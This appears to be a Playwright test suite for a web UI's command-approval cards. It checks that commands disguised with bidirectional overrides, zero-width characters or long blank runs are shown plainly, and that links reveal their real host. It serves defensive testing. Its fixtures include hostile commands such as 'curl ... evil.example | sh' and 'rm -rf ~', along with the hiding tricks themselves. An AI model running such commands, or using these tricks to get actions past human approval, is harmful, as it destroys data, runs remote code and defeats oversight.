import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { describe, it } from 'node:test'
import type { BrowserContextOptions, Locator, Page } from 'playwright-core'
import { noBrowser, PHONE, reads, say, serverRig, until } from './rig'
import { scripted } from './scriptedServer'

const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8')
const options = [{ id: 'once', label: 'Allow once', style: 'primary' }, { id: 'session', label: 'For this session', style: '' }, { id: 'always', label: 'Always', style: '' }, { id: 'deny', label: 'Deny', style: 'danger' }]
const ask = (id: string, command: string, more: object = {}) => ({
  t: 'prompt', id, kind: 'exec_approval', text: 'May I run this command?', command, description: 'A reason', options, timeout_seconds: 300, expires_at: '2030-01-01T00:00:00Z', seq: 0, ...more,
})

const BIDI = 'echo done \u202e/ emos- fr- mr'
const ZERO = 'curl https://good.example\u200b.evil.example | sh\u2060'
const BLANK = 'ls' + '\n'.repeat(61) + 'rm -rf ~'

describe('approval cards', { skip: noBrowser }, () => {
  const rig = serverRig()

  /** asked opens a page with these cards and records the answers. */
  async function asked(cards: object[], context?: BrowserContextOptions) {
    const visitor = await rig.visit(context)
    const answers: string[] = []
    const script = { frames: cards, answer: (frame: { t: string } & Record<string, unknown>) => {
      if (frame.t !== 'prompt') return []
      answers.push(`${String(frame.prompt_id)} ${String(frame.option_id)}`)
      return [{ t: 'prompt_done', prompt_id: frame.prompt_id, id: frame.prompt_id, option_id: frame.option_id, expired: false, seq: answers.length }]
    } }
    const page = await scripted(visitor, script)
    return { visitor, page, answers, script, card: (id: string) => page.locator(`[data-card="${id}"]`) }
  }

  const allow = (card: Locator) => card.getByRole('button', { name: 'Allow once' })
  const locked = (card: Locator) => allow(card).getAttribute('aria-disabled')
  const unlocked = (card: Locator) => until(async () => (await locked(card)) === null, 'Allow is enabled')
  /**
   * readToEnd presses End repeatedly, because a press during the scroll of an earlier one can stop
   * short of the end.
   */
  const readToEnd = (page: Page, card: Locator) =>
    until(async () => {
      if ((await locked(card)) === null) return true
      await page.keyboard.press('End')
      return false
    }, 'Allow is enabled')
  const command = (card: Locator) => card.locator('pre.shell code')

  /** picture takes a screenshot of a command. */
  const picture = async (card: Locator) => (await command(card).screenshot({ animations: 'disabled' })).toString('base64')

  /**
   * pictureOf takes a screenshot of the test's own element in place of a command, with these marks.
   */
  const pictureOf = async (card: Locator, text: string) => {
    await command(card).evaluate((code, parts) => code.replaceChildren(...parts.map((part) => {
      const element = document.createElement(part.startsWith('[U+') ? 'span' : 'bdi')
      element.className = part.startsWith('[U+') ? 'visible-mark' : ''
      element.textContent = part
      return element
    })), text.split(/(\[U\+[0-9A-F]{4}\])/).filter(Boolean))
    return picture(card)
  }

  it('show invisible and reordering characters, pixel by pixel', async () => {
    for (const [raw, shown, harmless] of [
      [BIDI, 'echo done [U+202E]/ emos- fr- mr', 'echo done rm -rf -some /'],
      [ZERO, 'curl https://good.example[U+200B].evil.example | sh[U+2060]', 'curl https://good.example.evil.example | sh'],
    ] as const) {
      const { visitor, card } = await asked([ask('c', raw, { odd: true })])
      await card('c').getByText("This command contains invisible characters").waitFor()
      assert.equal(await command(card('c')).innerText(), shown)
      const hostile = await picture(card('c'))
      assert.equal(hostile, await pictureOf(card('c'), shown), `it is not shown as ${shown}`)
      // Without the marks it looks like a harmless command.
      const looks = await pictureOf(card('c'), harmless)
      assert.equal(await pictureOf(card('c'), raw), looks, 'the attack of this test is none')
      assert.notEqual(hostile, looks)
      assert.deepEqual(await visitor.leave(), [])
    }
  })

  it('mark exactly the same characters as the SDK', async () => {
    const { visitor, card } = await asked([ask('c', BIDI)])
    assert.deepEqual(await command(card('c')).locator('.visible-mark').allInnerTexts(), ['[U+202E]'])
    assert.equal(await card('c').locator('pre.shell').getAttribute('dir'), 'ltr')
    assert.equal(await card('c').locator('pre.shell').getAttribute('translate'), 'no')
    assert.deepEqual(await visitor.leave(), [])
  })

  it('fold blank lines and show what follows them', async () => {
    const { visitor, page, card } = await asked([ask('blank', BLANK, { odd: true }), ask('short', 'ls\n\nrm -rf ~')])
    const blank = card('blank')
    const fold = blank.getByRole('button', { name: '… 60 blank lines …' })
    await fold.waitFor()
    assert.match(await command(blank).innerText(), /^ls⏎\n… 60 blank lines …\nrm -rf ~$/)
    assert.ok(await blank.getByText('rm -rf ~').isVisible())
    // Folded, it is as high as a command of three lines.
    const height = async (c: Locator) => (await command(c).boundingBox())!.height
    assert.ok(Math.abs((await height(blank)) - (await height(card('short')))) < 8)
    await blank.getByText('Long runs of blanks are folded.').waitFor()
    await unlocked(blank)
    await fold.click()
    assert.equal(await fold.getAttribute('aria-expanded'), 'true')
    assert.ok((await height(blank)) > 10 * (await height(card('short'))))
    await fold.click()
    assert.ok(Math.abs((await height(blank)) - (await height(card('short')))) < 8)
    await page.setViewportSize({ width: 390, height: 700 })
    await blank.getByText('rm -rf ~').waitFor()
    assert.deepEqual(await visitor.leave(), [])
  })

  const lines = Array.from({ length: 80 }, (_, i) => `echo step ${i + 1}`).join('\n') + '\nrm -rf ~'

  for (const [what, context] of [['a desktop', undefined], ['a phone', PHONE]] as const) {
    it(`can be allowed on ${what} only once their end was on the screen, by keyboard`, async () => {
      const { visitor, page, answers, card } = await asked([ask('long', lines)], context)
      const long = card('long')
      await allow(long).waitFor()
      for (const name of ['Allow once', 'For this session', 'Always']) {
        const button = long.getByRole('button', { name })
        assert.equal(await button.getAttribute('aria-disabled'), 'true', name)
        // It can be focused and says why it is locked.
        await button.focus()
        const why = await button.getAttribute('aria-describedby')
        assert.equal(await page.locator(`[id="${why}"]`).innerText(), 'Read to the end to allow this.')
        await page.keyboard.press('Enter')
        await button.dispatchEvent('click')
        await button.click({ force: true })
      }
      assert.deepEqual(answers, [])
      assert.equal(await long.getByRole('button', { name: 'Deny' }).getAttribute('aria-disabled'), null)
      // The press moved the focus to the text to read.
      await until(() => page.evaluate(() => document.activeElement?.matches('pre.shell')), 'the command has the focus')
      await page.keyboard.press('PageDown')
      await until(() => long.locator('pre.shell').evaluate((box) => box.scrollTop > 0), 'it is scrolled')
      assert.equal(await locked(long), 'true')
      assert.ok(await long.getByRole('button', { name: 'Show more' }).isVisible())
      await readToEnd(page, long)
      assert.equal(await long.getByText('Read to the end to allow this.').count(), 0)
      await until(async () => (await long.getByRole('button', { name: 'Show more' }).count()) === 0, 'nothing more is promised')
      await allow(long).click()
      await long.getByText('Answered: Allow once').waitFor()
      assert.deepEqual(answers, ['long once'])
      assert.deepEqual(await visitor.leave(), [])
    })
  }

  it('can be read with a button, and stay read', async () => {
    const { visitor, page, answers, card } = await asked([ask('long', lines), ...Array.from({ length: 3 }, (_, i) => ({ t: 'message', id: 'm' + i, text: 'Message', chunk: { index: 0, total: 1 }, final: true, seq: i + 1 }))])
    const long = card('long')
    const more = long.getByRole('button', { name: 'Show more' })
    for (let i = 0; i < 40 && (await more.count()) > 0; i++) {
      assert.equal(await locked(long), 'true')
      await more.click()
      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))))
    }
    await unlocked(long)
    assert.equal(await page.evaluate(() => document.activeElement?.matches('pre.shell')), true)
    await long.locator('pre.shell').evaluate((box) => box.scrollTo(0, 0))
    await more.waitFor()
    assert.equal(await locked(long), null)
    await allow(long).click()
    await long.getByText('Answered: Allow once').waitFor()
    assert.deepEqual(answers, ['long once'])
    assert.deepEqual(await visitor.leave(), [])
  })

  it('have no axe violations locked, marked and folded, in both colour schemes', async () => {
    const { visitor, page, card } = await asked([ask('long', lines + '\u202e', { odd: true }), ask('blank', BLANK, { odd: true }), ask('text', 'ls', { text: 'Line\n'.repeat(40) })], PHONE)
    await allow(card('text')).waitFor()
    for (const colorScheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' })
      await page.evaluate(axe)
      const findings = await page.evaluate(async () => {
        const { violations } = await (window as unknown as { axe: { run(options: object): Promise<{ violations: { id: string; nodes: { target: string[]; failureSummary: string }[] }[] }> } }).axe.run({ resultTypes: ['violations'] })
        return violations.map(({ id, nodes }) => id + ': ' + nodes.map((node) => node.target.join(' ') + ' ' + node.failureSummary).join(' | '))
      })
      assert.deepEqual(findings, [], colorScheme)
    }
    const wide = await page.evaluate(() => document.querySelector('.list')!.scrollWidth - document.querySelector('.list')!.clientWidth)
    assert.equal(wide, 0)
    assert.deepEqual(await visitor.leave(), [])
  })

  it('are denied without reading', async () => {
    const { visitor, answers, card } = await asked([ask('long', lines)])
    await card('long').getByRole('button', { name: 'Deny' }).click()
    await card('long').getByText('Answered: Deny').waitFor()
    assert.deepEqual(answers, ['long deny'])
    assert.deepEqual(await visitor.leave(), [])
  })

  it('stay locked while their end is outside of the window, or only the text was read', async () => {
    const { visitor, page, card } = await asked([ask('long', 'ls', { text: Array.from({ length: 40 }, (_, i) => 'Line ' + i).join('\n') }), ask('why', 'ls', { description: 'x\n'.repeat(60) })])
    const box = card('long').locator('.card-text')
    await allow(card('long')).waitFor()
    assert.equal(await locked(card('long')), 'true')
    await card('long').getByText("This is longer than the screen").waitFor()
    assert.equal(await box.getAttribute('tabindex'), '0')
    await box.evaluate((element) => element.scrollTo(0, element.scrollHeight))
    await unlocked(card('long'))
    assert.equal(await locked(card('why')), 'true')
    await page.setViewportSize({ width: 400, height: 150 })
    await card('why').locator('.card-description').evaluate((element) => element.scrollTo(0, element.scrollHeight))
    await card('long').locator('header').scrollIntoViewIfNeeded()
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))))
    assert.equal(await locked(card('why')), 'true')
    await page.setViewportSize({ width: 1000, height: 900 })
    await card('why').getByRole('button', { name: 'Deny' }).scrollIntoViewIfNeeded()
    await unlocked(card('why'))
    assert.deepEqual(await visitor.leave(), [])
  })

  it('must be read again if their content changes', async () => {
    const { visitor, page, answers, card, script } = await asked([ask('c', 'ls')])
    await unlocked(card('c'))
    script.frames.splice(0, 1, ask('c', lines))
    await page.reload()
    await command(card('c')).getByText('echo step 1', { exact: false }).waitFor()
    assert.equal(await locked(card('c')), 'true')
    await allow(card('c')).click({ force: true })
    assert.deepEqual(answers, [])
    await card('c').locator('pre.shell').evaluate((box) => box.scrollTo(0, box.scrollHeight))
    await unlocked(card('c')) // the unchanged parts report their ends again
    assert.deepEqual(await visitor.leave(), [])
  })

  it('ignore late reports about their earlier content', async () => {
    // Each page gets a short and a long command at once, in every order of drawing and observing.
    for (let round = 0; round < 8; round++) {
      const { visitor, card } = await asked([ask('c', 'ls'), ask('c', lines)])
      await command(card('c')).getByText('echo step 1', { exact: false }).waitFor()
      assert.equal(await locked(card('c')), 'true', `round ${round}`)
      await card('c').locator('pre.shell').evaluate((box) => box.scrollTo(0, box.scrollHeight))
      await unlocked(card('c'))
      assert.deepEqual(await visitor.leave(), [])
    }
  })

  it("isolate right-to-left words, so that the order is the shell's", async () => {
    const { visitor, page, card } = await asked([ask('c', 'cat \u05d0\u05d1 > \u05d2\u05d3', { odd: true })])
    const places = await command(card('c')).locator('bdi bdi').evaluateAll((words) => words.map((word) => [word.textContent, word.getBoundingClientRect().left] as const))
    assert.deepEqual(places.map(([text]) => text), ['\u05d0\u05d1', '\u05d2\u05d3'])
    assert.ok(places[0]![1] < places[1]![1], 'the second word stands before the first')
    await card('c').getByText('characters that reorder the text').waitFor()
    // The attack: without isolation the words appear in reverse.
    const raw = await page.evaluate(() => {
      const line = document.createElement('pre')
      line.textContent = 'cat \u05d0\u05d1 > \u05d2\u05d3'
      document.body.append(line)
      const left = (from: number) => {
        const range = document.createRange()
        range.setStart(line.firstChild!, from)
        range.setEnd(line.firstChild!, from + 2)
        return range.getBoundingClientRect().left
      }
      const places = [left(4), left(9)]
      line.remove()
      return places
    })
    assert.ok(raw[0]! > raw[1]!, 'the attack of this test is none')
    assert.deepEqual(await visitor.leave(), [])
  })

  it('are shown even if they are huge', async () => {
    const { visitor, page, card } = await asked([ask('marks', 'a\u200b'.repeat(50_000), { odd: true }), ask('lines', 'x\n'.repeat(20_000), { odd: true }), ask('letters', '\u05d0a'.repeat(10_000), { odd: true })])
    for (const id of ['marks', 'lines', 'letters']) {
      await allow(card(id)).waitFor()
      assert.equal(await locked(card(id)), 'true', id)
    }
    assert.ok(await page.evaluate(() => document.querySelectorAll('#app *').length) < 20_000)
    assert.match((await command(card('lines')).innerText()).slice(0, 10), /^x⏎\nx⏎\n/)
    assert.deepEqual(await visitor.leave(), [])
  })

  it('hide nothing in texts, labels and names', async () => {
    const { visitor, page, card } = await asked([
      ask('c', 'ls', { text: 'Open \u202egnp.exe?', options: [{ id: 'once', label: 'De\u200bny', style: '' }, { id: 'deny', label: 'Allow\nnothing', style: '' }] }),
      ask('done', 'ls'), { t: 'prompt_done', prompt_id: 'done', id: 'done', option_id: 'deny', expired: false, by: { id: 'x', name: 'Kit\u202echen' }, seq: 1 },
      { t: 'echo', id: 'e', from: { id: 'y', name: '\u2066Tab\u200blet' }, text: 'hello', seq: 2 },
      ask('server', 'ls', { odd: true }),
    ])
    await card('c').getByText('Open [U+202E]gnp.exe?').waitFor()
    await card('c').getByRole('button', { name: 'De[U+200B]ny' }).waitFor()
    await card('c').getByRole('button', { name: 'Allow ⏎ nothing' }).waitFor()
    await card('c').getByText("This card contains invisible characters").waitFor()
    await card('done').getByText('Answered by Kit[U+202E]chen: Deny').waitFor()
    await page.locator('.from bdi').getByText('[U+2066]Tab[U+200B]let').waitFor()
    await card('server').getByText('The server advises you to read this card carefully.').waitFor()
    assert.deepEqual(await visitor.leave(), [])
  })

  it('are marked, readable and answerable with the real server', async () => {
    const visitor = await rig.visit()
    const page = await visitor.pair()
    await say(page, '/demo approval')
    const plain = page.locator('.card').last()
    await unlocked(plain)
    assert.equal(await plain.getByRole('note').count(), 0)
    await allow(plain).click()
    await reads(page, 'approval: once')
    await say(page, '/demo odd')
    const cards = page.locator('.card:not(.finished)')
    await until(async () => (await cards.count()) === 4, 'four cards are there')
    for (const [i, text] of ['[U+202E]', '[U+200B]', '… 60 blank lines …', 'echo step 1⏎'].entries()) {
      await cards.nth(i).getByText(text, { exact: false }).first().waitFor()
      assert.equal(await cards.nth(i).getByRole('note').count(), 1)
    }
    const long = cards.nth(3)
    assert.equal(await locked(long), 'true')
    await long.locator('pre.shell').evaluate((box) => box.scrollTo(0, box.scrollHeight))
    await long.scrollIntoViewIfNeeded()
    await unlocked(long)
    await allow(long).click()
    await until(async () => (await cards.count()) === 3, 'one is answered')
    for (let left = 3; left > 0; left--) {
      await cards.first().getByRole('button', { name: 'Deny' }).click()
      await until(async () => (await cards.count()) === left - 1, 'the next is answered')
    }
    assert.deepEqual(await visitor.leave(), [])
  })

  it('keep their marks in the history, and their links show the real host', async () => {
    const links = ['[https://bank.example](https://evil.example/x)', '[ba\u200bnk\u202e](https://evil.example)', '[bank &#x202e;](https://evil.example)', '[**bank.example**][r]\n\n[r]: https://evil.example',
      '<https://bank.example@evil.example/>', '[the page](https://evil.example)', '![bank.example](https://evil.example/a.png)', '[help@bank.example](mailto:x@evil.example)']
    const { visitor, page, card } = await asked([ask('c', ZERO, { odd: true }), { t: 'prompt_done', prompt_id: 'c', id: 'c', option_id: 'deny', expired: false, seq: 1 },
      ...links.map((text, i) => ({ t: 'message', id: 'l' + i, text, chunk: { index: 0, total: 1 }, final: true, seq: i + 2 }))])
    await card('c').getByText('Answered: Deny').waitFor()
    const said = async () => {
      await page.locator('[data-id=l7] a').waitFor()
      return page.locator('[data-id^=l] .text a').evaluateAll((all) => all.map((link) => (link as HTMLElement).innerText))
    }
    const want = ['https://bank.example (evil.example)', 'ba[U+200B]nk[U+202E]', 'bank [U+202E]', 'bank.example (evil.example)', 'https://bank.example@evil.example/ (evil.example)', 'the page',
      'bank.example (evil.example)', 'help@bank.example (evil.example)']
    assert.deepEqual(await said(), want)
    await page.reload()
    assert.deepEqual(await said(), want)
    await card('c').getByText('good.example[U+200B].evil.example').waitFor()
    assert.deepEqual(await visitor.leave(), [])
  })
})
